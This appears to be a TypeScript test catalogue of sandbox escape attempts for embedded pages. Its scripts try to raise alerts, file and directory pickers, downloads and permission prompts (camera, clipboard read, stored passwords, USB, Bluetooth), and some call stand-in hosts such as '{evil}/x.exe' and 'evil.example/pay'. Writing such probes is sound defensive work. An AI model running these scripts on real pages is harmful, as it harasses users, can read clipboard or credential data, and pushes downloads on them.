/** Group E: everything that would put a dialog, a picker or a question of the system before the page. */
import type { Attempt } from './attempt.ts';

const script = (name: string, code: string, noticed: Attempt['noticed'] = null): Attempt => ({
  group: 'E',
  name,
  how: { is: 'script', script: code },
  noticed,
});

const granted = `.then(() => 'escaped', () => 'refused')`;
const input = (known: string) => `make('input', ${known})`;
/** A picture on a canvas, to be thrown at the disk. */
const blob = `URL.createObjectURL(new Blob(['x'.repeat(1000)]))`;

const permissions: readonly (readonly [string, string, Attempt['noticed']])[] = [
  ['camera', `navigator.mediaDevices.getUserMedia({ video: true })`, null],
  ['microphone', `navigator.mediaDevices.getUserMedia({ audio: true })`, null],
  ['screen', `navigator.mediaDevices.getDisplayMedia({ video: true })`, null],
  ['place', `new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no))`, null],
  [
    'notifications',
    `Notification.requestPermission().then((said) => { if (said !== 'granted') throw said })`,
    null,
  ],
  ['MIDI', `navigator.requestMIDIAccess({ sysex: true })`, null],
  ['clipboard, read', `navigator.clipboard.read()`, null],
  ['clipboard, read as text', `navigator.clipboard.readText()`, null],
  ['USB', `navigator.usb.requestDevice({ filters: [] })`, null],
  [
    'HID',
    `navigator.hid.requestDevice({ filters: [] }).then((found) => { if (found.length === 0) throw 0 })`,
    null,
  ],
  ['serial port', `navigator.serial.requestPort()`, null],
  ['Bluetooth', `navigator.bluetooth.requestDevice({ acceptAllDevices: true })`, null],
  ['wake lock', `navigator.wakeLock.request('screen')`, null],
  [
    'idle detection',
    `IdleDetector.requestPermission().then((said) => { if (said !== 'granted') throw said })`,
    null,
  ],
  ['local fonts', `queryLocalFonts().then((found) => { if (found.length === 0) throw 0 })`, null],
  ['screens', `getScreenDetails()`, null],
  ['storage that stays', `navigator.storage.persist().then((may) => { if (!may) throw 0 })`, null],
  ['keyboard lock', `navigator.keyboard.lock(['Escape'])`, null],
  ['share', `navigator.share({ text: 'x' })`, null],
  [
    'payment',
    `new PaymentRequest([{ supportedMethods: 'https://evil.example/pay' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).show()`,
    null,
  ],
  [
    'security key',
    `navigator.credentials.create({ publicKey: { challenge: new Uint8Array(16), rp: { name: 'x' }, user: { id: new Uint8Array(8), name: 'x', displayName: 'x' }, pubKeyCredParams: [{ type: 'public-key', alg: -7 }], timeout: 300 } })`,
    null,
  ],
  [
    'passwords',
    `navigator.credentials.get({ password: true }).then((found) => { if (!found) throw 0 })`,
    null,
  ],
  ['eye dropper', `new EyeDropper().open()`, null],
  ['picture in picture', `document.createElement('video').requestPictureInPicture()`, null],
  ['virtual reality', `navigator.xr.requestSession('immersive-vr')`, null],
];

export const dialogs: readonly Attempt[] = [
  script('print', `window.print()`),
  script('alert', `alert('x')`),
  script('confirm', `return confirm('x') ? 'escaped' : 'refused'`),
  script('prompt', `try { return prompt('x') === null ? 'refused' : 'escaped' } catch { return 'refused' }`),
  script('200 alerts', `for (let at = 0; at < 200; at += 1) alert(at)`),
  script(
    'question before leaving',
    `addEventListener('beforeunload', (event) => { event.preventDefault(); event.returnValue = 'x' }); location.reload()`,
  ),
  script('file', `${input(`{ type: 'file' }`)}.click()`, 'file-dialog'),
  script('files', `${input(`{ type: 'file', multiple: true }`)}.click()`, 'file-dialog'),
  script('folder', `${input(`{ type: 'file', webkitdirectory: true }`)}.click()`, 'file-dialog'),
  script('file, by showPicker', `${input(`{ type: 'file' }`)}.showPicker()`, 'file-dialog'),
  script(
    'file, from a frame',
    `const f = make('iframe', {}); const i = f.contentDocument.createElement('input'); i.type = 'file'; f.contentDocument.body.append(i); i.click()`,
  ),
  script('open file picker', `return showOpenFilePicker()${granted}`),
  script('save file picker', `return showSaveFilePicker()${granted}`),
  script('directory picker', `return showDirectoryPicker()${granted}`),
  script('download of data', `make('a', { href: 'data:text/plain,x', download: 'x.txt' }).click()`),
  script('download of a blob', `make('a', { href: ${blob}, download: 'x.html' }).click()`),
  script('download of our own file', `make('a', { href: '/index.html', download: 'x.html' }).click()`),
  script('download from outside', `make('a', { href: '{evil}/x.exe', download: 'x.exe' }).click()`),
  script('password question of a server', `make('img', { src: '{evil}/password' })`),
  script('colour picker', `const i = ${input(`{ type: 'color' }`)}; i.showPicker()`),
  script('date picker', `const i = ${input(`{ type: 'date' }`)}; i.showPicker()`),
  script('time picker', `const i = ${input(`{ type: 'time' }`)}; i.showPicker()`),
  script('list of a select', `const s = make('select', {}); s.append(new Option('x')); s.showPicker()`),
  script('e-mail field', `${input(`{ type: 'email', autocomplete: 'email' }`)}.focus()`),
  script('spelling', `make('textarea', { spellcheck: true, value: 'mispeled wrods' }).focus()`),
  ...permissions.map(([name, code, noticed]) => script(name, `return (${code})${granted}`, noticed)),
];
